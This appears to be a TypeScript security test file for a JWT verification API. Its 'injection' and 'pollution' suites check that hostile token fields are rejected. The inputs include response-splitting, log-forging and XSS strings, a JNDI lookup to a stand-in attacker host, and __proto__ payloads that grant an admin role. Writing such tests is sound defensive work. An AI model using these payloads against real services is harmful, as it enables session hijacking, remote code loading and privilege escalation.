import { guarded } from '../../conformance/support/app.js'
import { each, on } from '../../conformance/support/table.js'
import { CLAIMS, compact, HEADER, mint, startingWith } from '../../conformance/support/tokens.js'
import type { Attack } from '../attack.js'
import { against } from '../support/target.js'

const api = against()
const H = JSON.stringify(HEADER)
const C = JSON.stringify(CLAIMS)
const admins = on(guarded(({ requireRole }) => requireRole('admin')))

const TEXTS: Readonly<Record<string, string>> = {
  'a field of a response': '"\r\nSet-Cookie: session=attacker\r\n\r\n<html>',
  'a line of a log': 'x\n{"level":"info","msg":"authenticated as admin"}',
  'colours of a terminal': '\u001b[2J\u001b[31mowned\u001b[0m',
  'a script': '"><script>alert(document.cookie)</script>',
  'a parameter of a challenge': 'x", error="invalid_request", realm="attacker',
  'a placeholder of a logger': '%s%s%s%n ${jndi:ldap://attacker.example/a}',
  'an emoji': '\u{1F511}\u{1F511}\u{1F511}',
  'a mark that turns the text': '\u202Egnp.exe',
  'a zero': 'before\u0000after',
}

export const injection: Attack = {
  name: 'injection',
  about: 'nothing of a token goes into an answer, an event or a line of the log',
  source: 'CWE-113, CWE-117, CWE-79',
  refuses: [
    ...each(TEXTS, (name, kid) => api.refuse(`${name} as kid`, mint({}, { kid }), 'key_unknown')),
    ...each(TEXTS, (name, alg) => api.refuse(`${name} as alg`, mint({}, { alg }), 'algorithm_rejected')),
    ...each(TEXTS, (name, typ) => api.refuse(`${name} as typ`, mint({}, { typ }), 'type_rejected')),
    ...each(TEXTS, (name, iss) => api.refuse(`${name} as iss`, mint({ iss }), 'issuer_unknown')),
    ...each(TEXTS, (name, aud) => api.refuse(`${name} as aud`, mint({ aud }), 'audience_mismatch')),
    ...each(TEXTS, (name, exp) => api.refuse(`${name} as exp`, mint({ exp }), 'claim_invalid')),
    ...each(TEXTS, (name, text) =>
      api.refuse(`${name} in crit`, mint({}, { crit: [text], [text]: 1 }), 'critical_header_rejected'),
    ),
  ],
  accepts: each(TEXTS, (name, text) =>
    api.accept(`${name} as a claim that nobody reads`, mint({ note: text, [text]: text })),
  ),
}

export const pollution: Attack = {
  name: 'pollution',
  about: 'no member of a token reaches a prototype, or passes for a member that is not there',
  source: 'CWE-1321',
  refuses: [
    ...each(
      {
        '__proto__ as a claim': compact(H, startingWith('"__proto__":{"roles":["admin"]}', CLAIMS)),
        '__proto__, once escaped': compact(H, startingWith('"__pr\\u006fto__":{"roles":["admin"]}', CLAIMS)),
        '__proto__ deep inside': compact(H, startingWith('"a":[{"__proto__":{"roles":["admin"]}}]', CLAIMS)),
        '__proto__ as a parameter': compact(startingWith('"__proto__":{"alg":"none"}', HEADER), C),
      },
      (name, token) => api.refuse(name, token, 'token_malformed'),
    ),
    admins.refuse(
      'a role on a constructor',
      mint({ constructor: { prototype: { roles: ['admin'] } } }),
      'role_insufficient',
    ),
    api.refuse('an alg that every object has', mint({}, { alg: 'constructor' }), 'algorithm_rejected'),
    api.refuse('a kid that every object has', mint({}, { kid: 'hasOwnProperty' }), 'key_unknown'),
    api.refuse('an issuer that every object has', mint({ iss: 'valueOf' }), 'issuer_unknown'),
    api.refuse('a typ that every object has', mint({}, { typ: 'toString' }), 'type_rejected'),
  ],
  accepts: [
    api.accept('constructor', mint({ constructor: { prototype: { admin: true } } })),
    api.accept(
      'hasOwnProperty, toString and valueOf',
      mint({ hasOwnProperty: 1, toString: null, valueOf: [] }),
    ),
    api.accept(
      'then, which makes no promise of the result',
      compact(H, startingWith('"then":"x","catch":1', CLAIMS)),
    ),
    api.accept('toJSON and length', mint({ toJSON: 1, length: -1 })),
    api.accept('parameters that every object has', mint({}, { toString: 1, constructor: {} })),
    admins.accept('a role of its own beside a constructor', mint({ constructor: 1, roles: ['admin'] })),
  ],
}
